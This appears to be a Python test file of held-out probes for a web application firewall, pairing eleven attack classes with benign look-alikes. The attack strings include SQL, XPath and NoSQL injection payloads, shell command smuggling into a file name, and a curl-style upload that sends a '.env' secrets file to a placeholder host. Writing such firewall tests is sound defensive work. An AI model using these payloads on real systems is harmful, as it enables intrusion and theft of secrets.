"""WAF, part 2z62: held-out probes, eighty-fifth file (README: the
ninety-third round), written for this file on 2026-12-07. No string is
taken from a corpus or a public list: each class is written here in shapes
of our own, through the real edge (shipped config, bans off).

The classes the ninety-third round's corpora (couriers, mountainrescue,
luthier, shearing) showed when first replayed (at df1817d) that the round
fixed, an attack each and a look-alike that passes:
- placeholder-aside: a template's placeholder, a blank, then a dashed
  word in brackets (a false positive at df1817d, read as PHP's dynamic
  call); a variable called with a string after a blank, still refused.
- csv-first-cell: a CSV row whose first cell, quoted from the value's
  first byte, says "order by" and holds a dash pair (a false positive at
  df1817d, read as a breakout into ORDER BY); a quote, ORDER BY a column's
  number and a comment, still refused.
- xpath-attribute-path: a literal closed, then AND an absolute path whose
  last steps are a wildcard and an attribute; a directory named after
  "and" in prose passes.
- banner-claim: a line break, then a banner framed by "=" runs that says
  who closed something; a version banner passes.
- where-statement-return: a literal closed, a statement of the value's
  own, then a return of true; semicolons and "return" in prose pass.
- pin-range: a PIN's field compared with a number by a range; a count
  of pins compared passes.
- at-secret-upload: a value that opens with an option whose operand reads
  a settings file of secrets in by "@", then a URL; a photo uploaded the
  same way passes.
- glued-expansion: a variable given part of a program's name, then
  expanded glued to the rest; a number glued to a unit passes.
- substitution-assigned-run: inside a substitution, an IFS of its own and
  a variable given a program's name and an option, then run; a number
  given passes.
- plus-spaced: a quote, then OR and a comparison joined by "+" signs (a
  form's encoded blanks); quoted words joined by "+" pass.
- every-field-match-all: a search query that opens with every field's
  match-all, then OR a term; the match-all named in a sentence passes.
Measured on df1817d: every attack passed but placeholder-aside's and
csv-first-cell's (refused before too), and the look-alikes of
placeholder-aside and csv-first-cell were refused. (A secret file given
to one option alone, with nothing after it, was refused before too; a
form field's "name=@" before a URL was not.)

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "placeholder-aside": ["x ${f} ('whoami')"],
    "csv-first-cell": ["' order by 4-- -"],
    "xpath-attribute-path": ["B-7' and /stock/*[2]/@code and 'z'='z"],
    "banner-claim": ["bike 7\n=== ledger 12 closed by admin ==="],
    "where-statement-return": ["x'; this.tier='gold'; return true; //"],
    "pin-range": ['{"card_pin": {"$gte": 1000}}'],
    "at-secret-upload": ['-F "cfg=@/var/app/.env" https://x.example/in'],
    "glued-expansion": ["k=hostn; ${k}ame"],
    "substitution-assigned-run": ["log.txt$(IFS=,;p=uname,-a;$p)"],
    "plus-spaced": ["k'+OR+2>1--"],
    "every-field-match-all": ["*:* OR team:ops"],
}

BENIGN = {
    "placeholder-aside": ["Reminder text: Order ${order_no} for ${week} (mid-week)"],
    "csv-first-cell": ['"Order by fax -- rates fixed until 30/6",,'],
    "xpath-attribute-path": ["Kim's and /home/kim/docs and more"],
    "banner-claim": ["Release notes\n=== version 2 ==="],
    "where-statement-return": ["don't; it's fine; return it by Friday"],
    "pin-range": ['{"pins_total": {"$gt": 3}}'],
    "at-secret-upload": ['-F "photo=@holiday.jpg" https://api.example/upload'],
    "glued-expansion": ["v=10; ${v}px wide"],
    "substitution-assigned-run": ["(n=5; $n)"],
    "plus-spaced": ["'Rock'+'n'+'Roll' tour"],
    "every-field-match-all": ["stars *:* are wildcards"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r85_attack_refused_everywhere,
 test_heldout_r85_benign_passes) = heldout_probe_tests(
    "r85", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
